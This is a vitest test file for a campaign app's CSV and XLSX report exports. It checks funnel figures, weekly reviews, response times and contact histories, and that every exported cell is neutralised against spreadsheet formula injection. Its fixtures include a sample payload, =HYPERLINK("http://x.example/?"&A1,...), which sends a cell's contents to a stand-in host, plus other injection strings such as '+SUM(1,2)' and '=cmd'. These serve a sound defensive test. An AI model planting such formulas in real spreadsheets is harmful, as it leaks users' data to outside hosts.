import * as XLSX from 'xlsx';
import { describe, expect, it } from 'vitest';
import { twoProportionTest } from '../../../../shared/domain/results/abTest';
import { ratesOf, type Funnel } from '../../../../shared/domain/results/funnel';
import type { CampaignReport, ContactHistory, WeeklyReview } from '../../db/reports';
import { campaignReportTables, contactHistoryTables, reportCsvText, weeklyReviewTables } from './exportReport';
import { reportWorkbook, reportXlsxBytes, sheetName } from './reportXlsx';
import { createTranslator } from '../../i18n';
import { resultsWords } from '../../i18n/results';
import { DEFAULT_DUE } from '../../../../shared/domain/inbox/due';
import { replyRateByLabel, responseTimes, type ResponseEvent } from '../../../../shared/domain/inbox/responseTimes';
import { speedHoursKey, type SpeedTables } from './exportReport';
import type { ResponseReport } from './responseData';
import { businessHoursOf } from './useBusinessHours';

const w = resultsWords(createTranslator('en').t);
const funnel: Funnel = { queued: 10, sent: 9, delivered: 7, read: 3, replied: 2, failed: 1, skipped: 0, optedOut: 1 };
const EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")';

function report(over: Partial<CampaignReport> = {}): CampaignReport {
  const a = { sent: 5, delivered: 4, read: 2, replied: 1, optedOut: 0 };
  const b = { sent: 4, delivered: 3, read: 1, replied: 1, optedOut: 1 };
  return {
    id: 'c1',
    name: EVIL,
    channel: 'cloud',
    state: 'finished',
    sandbox: true,
    test: false,
    funnel,
    rates: ratesOf(funnel),
    avgFirstResponseMs: 90 * 60_000,
    phases: {},
    failures: [{ group: 'skip.quiet_hours', kind: 'skip', reason: 'quiet_hours', count: 1 }],
    ab: { a: { ...a, rates: ratesOf(a) }, b: { ...b, rates: ratesOf(b) }, reply: twoProportionTest(1, 4, 1, 3), read: twoProportionTest(2, 4, 1, 3) },
    cost: { total: 0.1234, byCountry: [{ country: 'KR', delivered: 7, rate: 0.0176, subtotal: 0.1234 }], currency: 'USD', asOf: '2026-01-01', category: 'MARKETING', billed: true, simulated: true },
    daily: [{ day: '2026-11-23', sent: 9, delivered: 7, read: 3, replied: 2, failed: 1, optedOut: 1 }],
    ...over,
  };
}

const campaignWords = { w, failure: () => '+SUM(1,2)', country: (c: string) => (c === 'KR' ? 'South Korea' : c) };

/** The CSV's lines as cells (the test data has no quoted commas except where noted). */
const lines = (csv: string) => csv.replace(/^\ufeff/, '').split('\r\n');

describe('campaign report export', () => {
  it('writes the funnel figures, rates as fractions and the first response in minutes', () => {
    const csv = reportCsvText(campaignReportTables(report(), campaignWords));
    expect(csv.startsWith('\ufeff')).toBe(true);
    const l = lines(csv);
    for (const [step, count] of [['Queued', 10], ['Sent', 9], ['Delivered', 7], ['Read', 3], ['Replied (72 h)', 2], ['Failed', 1], ['Skipped', 0], ['Opted out', 1]] as const) {
      expect(l, step).toContain(`${step},${count}`);
    }
    expect(l).toContain('Read rate,0.4286'); // 3 / 7
    expect(l).toContain('Reply rate,0.2857'); // 2 / 7
    expect(l).toContain('Average time to first reply (minutes),90');
    expect(l).toContain('Would have cost on the Cloud API (USD),0.12');
    expect(l).toContain('South Korea,7,0.0176,0.12');
    expect(l).toContain('2026-11-23,9,7,3,2,1,1');
    expect(l).toContain('A,4,0.5,0.25,0');
    expect(l).toContain('B,3,0.3333,0.3333,1');
  });

  it('neutralises formula cells in the CSV: the campaign name and a reason that starts with + get a quote', () => {
    const csv = reportCsvText(campaignReportTables(report(), campaignWords));
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    expect(lines(csv)).toContain(`"'+SUM(1,2)",1`);
    // Nothing in the file starts a cell with a bare formula character.
    for (const line of lines(csv)) expect(line, line).not.toMatch(/(^|,)"?[=+@]/);
  });

  it('neutralises text cells in the XLSX and keeps figures as number cells', () => {
    const book = XLSX.read(reportXlsxBytes(campaignReportTables(report(), campaignWords)), { type: 'array' });
    const summary = book.Sheets[book.SheetNames[0]!]!;
    const rows = XLSX.utils.sheet_to_json<unknown[]>(summary, { header: 1, raw: true });
    expect(rows[0]).toEqual(['Campaign report', `'${EVIL}`]);
    expect(rows).toContainEqual(['Campaign', `'${EVIL}`]);
    expect(rows).toContainEqual(['Read rate', 0.4286]);
    const funnelSheet = book.Sheets[book.SheetNames[1]!]!;
    expect(funnelSheet.B3).toMatchObject({ t: 'n', v: 9 }); // header in row 1, Queued in 2, Sent in 3
    expect(funnelSheet.B4).toMatchObject({ t: 'n', v: 7 });
    for (const name of book.SheetNames) {
      for (const [ref, cell] of Object.entries(book.Sheets[name]!)) {
        if (ref.startsWith('!')) continue;
        expect((cell as XLSX.CellObject).f, `${name}!${ref}`).toBeUndefined();
        if ((cell as XLSX.CellObject).t === 's') expect(String((cell as XLSX.CellObject).v), `${name}!${ref}`).not.toMatch(/^[=+\-@]/);
      }
    }
  });

  it('says the cost was nothing on the Assisted channel and leaves out the A/B sections without version B', () => {
    const r = report({ cost: { total: 0, byCountry: [], currency: 'USD', asOf: '2026-01-01', category: 'MARKETING', billed: false, simulated: false } });
    delete r.ab;
    const t = campaignReportTables(r, campaignWords);
    expect(t.sections.map((s) => s.title)).not.toContain('Version A and version B');
    expect(lines(reportCsvText(t))).toContain('Cost (USD),0');
  });
});

describe('weekly review export', () => {
  const review: WeeklyReview = {
    zone: 'Asia/Seoul',
    weeks: [
      { weekStart: '2026-11-23', sent: 6, delivered: 6, readRate: 0.5, replyRate: null, optOuts: 0, newContacts: 6, replies: 0, avgFirstResponseMs: null },
      { weekStart: '2026-11-16', sent: 0, delivered: 0, readRate: null, replyRate: null, optOuts: 1, newContacts: 0, replies: 2, avgFirstResponseMs: 30_000 },
    ],
    byLabel: [{ labelId: 1, name: '@VIP', color: undefined, sent: 6, delivered: 6, readRate: 0.5, replyRate: 0, optedOut: 0 }],
    heatmap: { read: Array.from({ length: 168 }, (_, i) => (i === 24 + 9 ? 3 : 0)), reply: new Array<number>(168).fill(0) },
    best: [{ id: 'c1', name: '-1+1', sandbox: true, test: false, sent: 6, delivered: 6, replied: 0, readRate: 0.5, replyRate: 0 }],
  };

  it('writes each week, the labels, the heatmap and the best campaigns, neutralised', () => {
    const l = lines(reportCsvText(weeklyReviewTables(review, w)));
    expect(l[0]).toBe('Weekly review,2026-11-16,2026-11-23');
    expect(l).toContain('2026-11-23,6,6,0.5,,0,6,0,');
    expect(l).toContain('2026-11-16,0,0,,,1,0,2,0.5');
    expect(l).toContain("'@VIP,6,6,0.5,0,0");
    expect(l).toContain("'-1+1,yes,6,6,0.5,0");
    const tue = l.find((x) => x.startsWith('Tue,'));
    expect(tue?.split(',')[1 + 9]).toBe('3'); // Tuesday 09:00
  });

  it('adds how fast the shop answered: each week’s first answer and share in time, the period, by priority, by staff and label reply rates', () => {
    const MIN = 60_000;
    const weekFrom = Date.parse('2026-11-22T15:00:00Z'); // Monday 23 November, Seoul
    const earlierFrom = weekFrom - 7 * 1440 * MIN;
    const events: ResponseEvent[] = [
      { kind: 'inbound', identity: 'a', at: weekFrom + 60 * MIN, priority: 'high' },
      { kind: 'answer', identity: 'a', at: weekFrom + 70 * MIN, staff: '=cmd' },
      { kind: 'inbound', identity: 'b', at: weekFrom + 120 * MIN, priority: 'medium' },
      { kind: 'answer', identity: 'b', at: weekFrom + 240 * MIN },
    ];
    const opts = { now: weekFrom + 7 * 1440 * MIN, due: DEFAULT_DUE };
    const speed: SpeedTables = {
      report: {
        times: responseTimes(events, { ...opts, from: earlierFrom, to: weekFrom + 7 * 1440 * MIN }),
        byPeriod: [responseTimes(events, { ...opts, from: weekFrom, to: weekFrom + 7 * 1440 * MIN }), responseTimes(events, { ...opts, from: earlierFrom, to: weekFrom })],
        labels: replyRateByLabel([{ identity: 'a', labels: ['1'], replied: false }]).map((r) => ({ ...r, name: 'Cold' })),
        hoursSet: false,
      },
      priority: (p) => p.toUpperCase(),
    };
    const l = lines(reportCsvText(weeklyReviewTables(review, w, speed)));
    expect(l).toContain('2026-11-23,6,6,0.5,,0,6,0,,65,0.5'); // (10 + 120) / 2 minutes; one of two in time
    expect(l).toContain('2026-11-16,0,0,,,1,0,2,0.5,,');
    expect(l).toContain('Customer waits,2');
    expect(l).toContain('Time to your first answer (average) (minutes),65');
    expect(l).toContain('Average time to your answer (minutes),65');
    expect(l).toContain('Answered in time,0.5');
    expect(l).toContain('HIGH,15,1,1,1');
    expect(l).toContain('MEDIUM,60,1,0,0');
    expect(l).toContain("'=cmd,1,10,1,1");
    expect(l).toContain('Not named,1,120,0,0');
    expect(l).toContain('Cold,1,0,0,yes');
    expect(l).toContain('"All hours counted: business hours are not set, so nights and days off count too.",');
    expect(reportWorkbook(weeklyReviewTables(review, w, speed)).SheetNames).toHaveLength(9);
  });

  it('names the sheets within Excel’s rules', () => {
    const taken = new Set<string>();
    expect(sheetName('When customers read and reply (shop time): Reads', taken)).toBe('When customers read and reply (');
    expect(sheetName('When customers read and reply (shop time): Replies', taken)).toBe('When customers read and reply 2');
    expect(reportWorkbook(weeklyReviewTables(review, w)).SheetNames).toHaveLength(5);
  });
});

describe('contact history export', () => {
  const history = (messages: number): ContactHistory => ({
    contact: { id: 7, name: '@Mina', phone: '+821012345678' } as ContactHistory['contact'],
    messages: Array.from({ length: messages }, (_, i) => ({
      job: `c${i}-0`,
      campaign: `c${i}`,
      campaignName: i === 0 ? EVIL : `Campaign ${i}`,
      sandbox: i % 2 === 0,
      ...(i === 1 ? { variant: 'B' as const } : {}),
      stage: i === 0 ? ('replied' as const) : ('delivered' as const),
      sentAt: 1_000 + i,
      deliveredAt: 2_000 + i,
      ...(i === 0 ? { readAt: 3_000, repliedAt: 4_000 } : {}),
      at: 2_000 + i,
    })),
    replies: [
      { seq: 1, at: 4_000, type: 'text', text: '+1 more please', optOut: 'none', job: 'c0-0', campaign: 'c0' },
      { seq: 2, at: 5_000, type: 'image', optOut: 'none' },
      { seq: 3, at: 6_000, type: 'text', text: 'STOP', optOut: 'opt_out' },
    ],
  });
  const words = { w, stage: (s: string) => `stage:${s}`, time: (at: number) => `t${at}` };

  it('lists every message (not only the 50 the dialog shows) and every reply, with times and campaigns', () => {
    const l = lines(reportCsvText(contactHistoryTables(history(60), words)));
    expect(l[0]).toBe(`Contact history,'@Mina,+821012345678`); // an E.164 number stays as it is (csvOut.ts)
    expect(l).toContain('Campaign,Simulated (Sandbox),Version,Status,Sent at,Delivered at,Read at,Replied at');
    expect(l).toContain('Campaign 1,no,B,stage:delivered,t1001,t2001,,');
    expect(l).toContain('Campaign 59,no,,stage:delivered,t1059,t2059,,');
    expect(l.filter((x) => x.includes('stage:'))).toHaveLength(60);
    expect(l).toContain('Time,Text,Opt-out,Campaign');
    expect(l).toContain('t5000,(image),no,');
    expect(l).toContain('t6000,STOP,yes,');
  });

  it('neutralises what the customer and the shop typed', () => {
    const csv = reportCsvText(contactHistoryTables(history(2), words));
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")",yes,,stage:replied,t1000,t2000,t3000,t4000`);
    expect(lines(csv)).toContain(`t4000,'+1 more please,no,"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    // Nothing starts a cell with a bare formula character, but for the phone number (exactly E.164).
    for (const line of lines(csv)) expect(line, line).not.toMatch(/(^|,)"?(?!\+[1-9]\d{6,14}(,|$))[=+@]/);
  });
});

describe('which hours the response times count, in words', () => {
  const times = (hours: 'all' | 'business') => ({ hours }) as ResponseReport['times'];
  it.each([
    ['business hours counted', { times: times('business'), hoursSet: true }, 'speed.businessHours'],
    ['hours set, all chosen', { times: times('all'), hoursSet: true }, 'speed.allHoursChosen'],
    ['no hours set', { times: times('all'), hoursSet: false }, 'speed.allHours'],
  ] as const)('%s', (_name, r, key) => {
    expect(speedHoursKey(r)).toBe(key);
  });
});

describe('the business hours the results count, from the automation rules', () => {
  it.each([
    ['no rules', {}, null],
    ['hours with open days', { businessHours: { timeZone: 'Asia/Seoul', days: { mon: [['10:00', '19:00']] } } }, 'Asia/Seoul'],
    ['hours with no open range on any day say nothing', { businessHours: { timeZone: 'Asia/Seoul', days: { mon: [] } } }, null],
    ['a damaged set counts as none', { businessHours: { timeZone: 'Nowhere/City', days: { mon: [['10:00', '19:00']] } } }, null],
  ] as const)('%s', (_name, rules, zone) => {
    expect(businessHoursOf(rules)?.timeZone ?? null).toBe(zone);
  });
});
